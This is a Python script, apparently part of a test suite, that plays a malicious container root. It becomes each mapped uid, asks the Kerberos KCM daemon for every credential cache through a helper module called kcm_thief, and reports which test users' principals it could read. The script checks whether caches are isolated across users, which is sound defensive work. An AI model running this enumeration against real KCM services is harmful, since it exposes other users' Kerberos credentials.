#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-3.0-or-later
"""A malicious root of a container: becomes each uid that its map has, and the
uids of the command line, and asks KCM for every cache there is. Prints, as
JSON, which uids it could not become and whose caches it saw.
Usage: container_root.py REALM UID..."""
import json
import os
import pathlib
import sys

sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
import kcm_thief as thief       # noqa: E402

PER_MAP = 2000


def mapped():
    """Not the billions of a machine's own namespace."""
    for line in pathlib.Path('/proc/self/uid_map').read_text().splitlines():
        first, _, count = map(int, line.split())
        yield from range(first, first + min(count, PER_MAP))


def caches(kcm):
    _, uuids = kcm.call(thief.CACHE_UUIDS)
    for at in range(0, len(uuids) - 15, 16):
        _, name = kcm.call(thief.CACHE_BY_UUID, uuids[at:at + 16])
        yield name


def owners(realm, others):
    """Whose principals the caches name that it is told of or guesses."""
    kcm = thief.Kcm()
    guesses = [f'{uid}\0'.encode() for uid in others]
    found = set()
    for name in [*caches(kcm), *guesses]:
        status, data = kcm.call(thief.GET_PRINCIPAL, name)
        for who in ('alice', 'bob'):
            if status == 0 and who.encode() in data:
                found.add(who)
    return sorted(found)


def as_uid(uid, realm, others):
    """What a child saw; None when it could not become UID."""
    here, there = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.setgroups([])
            os.setresuid(uid, uid, uid)
        except OSError:
            os._exit(9)
        os.write(there, json.dumps(owners(realm, others)).encode())
        os._exit(0)
    os.close(there)
    with os.fdopen(here, 'rb') as out:
        seen = out.read()
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code == 9:
        return None
    assert code == 0, (uid, code)
    return json.loads(seen)


def main():
    realm, extra = sys.argv[1], [int(word) for word in sys.argv[2:]]
    others = [0, *extra]
    result = {'tried': 0, 'refused': [], 'seen': {}}
    for uid in [*mapped(), *extra]:
        seen = as_uid(uid, realm, others)
        if seen is None:
            result['refused'].append(uid)
            continue
        result['tried'] += 1
        if seen:
            result['seen'][uid] = seen
    result['refused'].sort()
    print(json.dumps(result))


main()
